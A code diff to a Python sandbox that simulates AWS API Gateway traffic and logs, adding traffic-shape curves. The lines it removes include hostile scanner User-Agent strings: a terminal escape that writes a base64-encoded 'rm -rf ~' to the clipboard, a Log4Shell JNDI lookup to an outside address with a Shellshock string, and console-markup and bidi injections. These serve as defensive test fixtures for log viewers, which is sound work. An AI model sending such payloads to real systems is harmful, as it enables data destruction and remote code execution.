@@ -36,6 +36,7 @@ from datetime import UTC, datetime
 from typing import Any
 
 from console.sandbox import moto_seam
+from console.sandbox.callers import CLIENT_IPS, user_agent
 from console.sandbox.estate_types import Ids, RegionEstate, RestApi, RestStage, Traffic, V2Api, V2Stage
 
 WINDOW_MINUTES = 180  # how far back the history reaches
@@ -46,39 +47,6 @@ LOGGED_MINUTES = 60
 NAMESPACE = "AWS/ApiGateway"
 
 # --- Inventory: what the traffic looks like -------------------------------------------------
-
-# Documentation ranges (RFC 5737) and a carrier-grade NAT address: realistic, never anyone's.
-CLIENT_IPS = tuple(f"203.0.113.{n}" for n in (7, 18, 44, 91, 133, 202)) + tuple(
-    f"198.51.100.{n}" for n in (3, 27, 64, 150, 211)
-) + ("192.0.2.15", "192.0.2.88", "100.64.12.9")
-USER_AGENTS = (
-    "okhttp/4.12.0",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
-    "python-requests/2.32.3",
-    "axios/1.7.2",
-    "Go-http-client/2.0",
-    "Amazon CloudFront",
-)
-# What internet scanners send: terminal escapes (OSC 52 writes a clipboard, CSI repaints a screen),
-# console markup, template and shell injections, bidi controls. About one request in HOSTILE_EVERY
-# carries one, so every view of the logs meets hostile text within a minute (never a quote: API
-# Gateway does not escape it, and a broken JSON line is a different test).
-HOSTILE_AGENTS = (
-    "\x1b]52;c;cm0gLXJmIH4=\x07scanner/1.0",
-    "\x1b[2J\x1b[1;1H RO  fake header",
-    "[@click=app.quit]free[/] [link=http://example.com]prize[/link]",
-    "${jndi:ldap://203.0.113.66/a} () { :; }; /bin/true",
-    "Mozilla/5.0 \u202egnp.exe \x9b31m",
-)
-HOSTILE_EVERY = 97
-
-
-def user_agent(rng: random.Random, epoch_ms: int) -> str:
-    """A client's User-Agent; now and then a scanner's (chosen by time, so the random stream is unchanged)."""
-    agent = rng.choice(USER_AGENTS)
-    return HOSTILE_AGENTS[epoch_ms // HOSTILE_EVERY % len(HOSTILE_AGENTS)] if epoch_ms % HOSTILE_EVERY == 0 else agent
-
 
 PATH_PARAM_PREFIXES = {"orderId": "ord_", "paymentId": "pay_", "sku": "SKU-",
                        "categoryId": "cat_", "id": "prd_", "cartId": "cart_"}
@@ -278,10 +246,29 @@ PENDING = Pending()
 _PEAK_LOAD = 1.4
 
 
-def load(elapsed: float) -> float:
-    """Traffic relative to a stage's mean, `elapsed` (0..1) into the window: an afternoon
-    build-up with a ripple, never above `_PEAK_LOAD`."""
+def _afternoon(elapsed: float) -> float:
     return 0.6 + 0.7 * elapsed + 0.1 * math.sin(elapsed * 40)
+
+
+# A stage's traffic over the window, relative to its mean (Traffic.shape): a shop's build-up, a
+# CDN-fronted catalogue's steady flow, partners' settlement runs every half hour, an upstream blip
+# an hour ago and its recovery, and a test stage's CI runs.
+_SHAPES: dict[str, Callable[[float], float]] = {
+    "afternoon": _afternoon,
+    "steady": lambda e: 1.1 + 0.04 * math.sin(e * 23 + 1.3),
+    "batch": lambda e: 0.8 + (1.4 if (e * WINDOW_MINUTES + 10) % 30 < 4 else 0.0) + 0.05 * math.sin(e * 31),
+    "dip": lambda e: 1.15 - 0.65 * math.exp(-(((e - 0.62) / 0.05) ** 2)) + 0.05 * math.sin(e * 17),
+    "bursts": lambda e: 0.35 + (2.2 if (e * WINDOW_MINUTES) % 40 < 9 else 0.0),
+}
+_END_LOAD = _afternoon(1.0)
+
+
+def load(elapsed: float, shape: str = "afternoon") -> float:
+    """Traffic relative to a stage's mean, `elapsed` (0..1) into the window, in the stage's shape; every
+    shape is drawn, mostly over its last half hour, to where the live traffic carries on (`load(1.0)`), so
+    history and live meet without a step."""
+    curve = _SHAPES[shape]
+    return curve(elapsed) + (_END_LOAD - curve(1.0)) * elapsed ** 8
 
 
 def poisson(rng: random.Random, mean: float) -> int:
@@ -755,7 +742,7 @@ def _per_minute(
     running = (now_ms % 60_000) / 60_000  # the share of the running minute before now
     for minute in range(WINDOW_MINUTES + 1):
         share = 1.0 if minute < WINDOW_MINUTES else running
-        requests = poisson(rng, traffic.per_minute * load(minute / WINDOW_MINUTES) * share) if share else 0
+        requests = poisson(rng, traffic.per_minute * load(minute / WINDOW_MINUTES, traffic.shape) * share) if share else 0
         if requests == 0:
             continue  # no requests, no datapoint
         server = _binomial(rng, requests, traffic.server_errors)
